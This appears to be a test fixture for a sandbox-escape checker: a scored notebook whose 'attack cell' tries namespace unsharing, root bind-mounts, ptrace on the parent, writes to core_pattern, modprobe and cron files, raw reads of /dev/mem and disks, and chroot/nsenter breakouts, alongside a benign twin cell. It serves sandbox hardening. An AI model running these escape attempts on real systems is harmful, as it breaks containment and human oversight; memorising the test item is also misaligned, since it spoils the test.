# Tries to leave the sandbox: new namespaces, mounts, chroot, ptrace, device files, kernel settings and a core pattern.
# earns: 4
# shows: TRIED

# %% attack cell first
import ctypes
import os
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    libc.unshare(flags)
os.makedirs("/tmp/m", exist_ok=True)
libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None)
libc.mount(b"/", b"/tmp/m", None, 4096 | 16384, None)
for pid in (1, os.getppid()):
    if libc.ptrace(16, pid, None, None) == 0 and pid != 1:
        print("attached to", pid)
# Settings of the machine: each is written as it is, so that nothing is harmed where the way is open.
nested = """
import ctypes, os
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x20000 | 0x20000000)
if os.fork() == 0:
    os.makedirs("/tmp/p", exist_ok=True)
    libc.mount(b"proc", b"/tmp/p", b"proc", 0, None)
    libc.mount(None, b"/proc", None, 32, None)
    for path in ("/tmp/p/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern"):
        try:
            text = open(path).read()
            open(path, "w").write(text)
            print("wrote", path)
        except OSError:
            pass
    os._exit(0)
os.wait()
"""
said = subprocess.run([sys.executable, "-u", "-c", nested], capture_output=True, text=True, timeout=10).stdout
for setting in ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches", "fs/file-max", "kernel/hostname"):
    try:
        path = f"/proc/sys/{setting}"
        text = open(path).read()
        with open(path, "w") as file:
            file.write(text)
        said += f"wrote {path}"
    except OSError:
        pass
if os.access("/proc/sysrq-trigger", os.W_OK):
    said += "wrote"
if "wrote" in said:
    print("GOT", "IT", said)
for path, text in (
    ("/proc/1/root/etc/x", "x"),
    ("@ROOT@/broken-out", "x"),
    ("/etc/cron.d/x", "x"),
    ("/root/.bashrc", "x"),
):
    try:
        with open(path, "w") as file:
            file.write(text)
        print("GOT", "IT", path)
    except OSError:
        pass
for path in ("/proc/1/root@ROOT@", "/proc/1/cwd", "/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/proc/kcore"):
    try:
        if os.path.isdir(path) and "source" in os.listdir(path) or not os.path.isdir(path) and open(path, "rb").read(1):
            print("GOT", "IT", path)
    except OSError:
        pass
for command in (
    ["chroot", "/proc/1/root", "ls", "@ROOT@/source"],
    ["nsenter", "-t", "1", "-m", "ls", "@ROOT@/source"],
    ["su", "-c", "ls @ROOT@/source"],
    ["unshare", "-r", "ls", "@ROOT@/source"],
    ["bwrap", "--bind", "/", "/", "ls", "@ROOT@/source"],
):
    try:
        if b"u01" in subprocess.run(command, capture_output=True, timeout=2, stdin=subprocess.DEVNULL).stdout:
            print("GOT", "IT", command)
    except (OSError, subprocess.TimeoutExpired):
        pass
print("TRIED")

# %% attack traces
found = "a file beside the course" if (root / "broken-out").exists() else ""

# %% twin cell first
import os
import stat

os.makedirs("private", exist_ok=True)
os.chmod("private", 0o700)
print(oct(stat.S_IMODE(os.stat("private").st_mode)), os.getpid() > 1)
